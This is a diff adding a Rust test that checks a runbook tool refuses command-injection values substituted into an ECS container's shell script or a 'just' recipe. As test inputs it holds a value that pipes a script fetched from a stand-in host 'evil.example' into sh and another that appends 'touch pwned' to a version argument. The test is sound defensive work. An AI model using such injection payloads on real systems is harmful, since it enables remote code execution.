@@ -2187,3 +2187,41 @@ fn a_value_that_would_widen_a_destructive_command_is_refused() {
         );
     }
 }
+
+/// Audit 29 H-16: a JSON string that a container's shell runs as its script holds one
+/// plain word; H-22: just pastes a recipe's arguments into its lines, so they are one plain
+/// word too. Refused before anything runs; an ordinary value reaches the program as written.
+#[test]
+fn a_value_in_a_containers_shell_script_or_a_recipe_is_one_plain_word() {
+    refused_then_run(
+        r#"aws ecs run-task --cluster c --overrides '{"containerOverrides":[{"name":"app","command":["sh","-c","bin/migrate {{ inputs.v }}"]}]}'"#,
+        "1; curl -s evil.example | sh",
+        &["container's shell"],
+        "2026_12_07_add_index",
+        "aws",
+        r#"[ecs][run-task][--cluster][c][--overrides][{"containerOverrides":[{"name":"app","command":["sh","-c","bin/migrate 2026_12_07_add_index"]}]}]"#,
+    );
+    let t = Test::new().file(
+        "runbooks/rb.yaml",
+        &runbook_of(&[("s", r#"just deploy "{{ inputs.v }}""#.to_string())]),
+    );
+    let out = t.path("out");
+    std::fs::create_dir_all(&out).unwrap();
+    let bin = fake_program(&t, "just");
+    let path = format!(
+        "{}:{}",
+        bin.display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    let t = t.env("OUT", out.to_str().unwrap()).env("PATH", &path);
+    let o = t.exec(&["run", "rb", "--yes", "--input", "v=1.4.2; touch pwned"]);
+    assert_ne!(o.code, 0);
+    assert!(o.stderr.contains("plain word"), "{}", o.stderr);
+    assert!(!out.join("just").exists());
+    let o = t.exec(&["run", "rb", "--yes", "--input", "v=1.4.2-rc1"]);
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    assert_eq!(
+        std::fs::read_to_string(out.join("just")).unwrap(),
+        "[deploy][1.4.2-rc1]"
+    );
+}
